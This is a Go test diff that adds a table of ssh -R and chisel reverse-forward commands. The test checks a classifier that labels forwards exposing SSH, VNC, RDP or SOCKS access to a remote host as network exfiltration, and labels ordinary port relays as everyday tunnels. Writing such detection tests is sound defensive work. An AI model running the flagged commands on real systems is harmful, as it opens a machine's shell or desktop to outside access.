@@ -272,3 +272,32 @@ func TestNetworkExplain(t *testing.T) {
 		}
 	}
 }
+
+// TestReverseForwards: a reverse forward that serves a login, a desktop
+// or a proxy into this machine's network is network-exfiltration (the
+// README's "serving … a desktop or a shell"; generalise_test's ssh -R to
+// port 22); one that relays another service's port is a tunnel, which
+// heldout5's labels and the README's "ssh -R|-L|-D tunnels and SOCKS
+// proxies" keep everyday. Forms from ssh(1) -R and chisel's R: remotes.
+func TestReverseForwards(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`ssh -R 2222:localhost:22 -N user@example.test`, NetworkExfiltration},
+		{`ssh -R8022:127.0.0.1:22 user@example.test`, NetworkExfiltration},
+		{`ssh -R 1080 user@example.test`, NetworkExfiltration},
+		{`ssh -R 0.0.0.0:1080 user@example.test`, NetworkExfiltration},
+		{`ssh -R 5900:127.0.0.1:5900 user@example.test`, NetworkExfiltration},
+		{`ssh -NR 3389:10.0.0.5:3389 user@example.test`, NetworkExfiltration},
+		{`ssh -R 2222:/run/sshd.sock user@example.test`, NetworkExfiltration},
+		{`ssh -R "$SPEC" user@example.test`, NetworkExfiltration},
+		{`chisel client example.test:8000 R:2222:127.0.0.1:22`, NetworkExfiltration},
+		{`ssh -R 0.0.0.0:10521:127.0.0.1:1521 user@10.0.0.1`, ""},
+		{`ssh -i dmz_key -R 192.168.1.10:443:0.0.0.0:7000 root@10.129.203.111 -vN`, ""},
+		{`ssh -R 8080:localhost:3000 user@example.test`, ""},
+		{`ssh -R [::1]:8080:[::1]:3000 user@example.test`, ""},
+		{`chisel client 10.10.14.20:12312 R:4505:127.0.0.1:4505`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
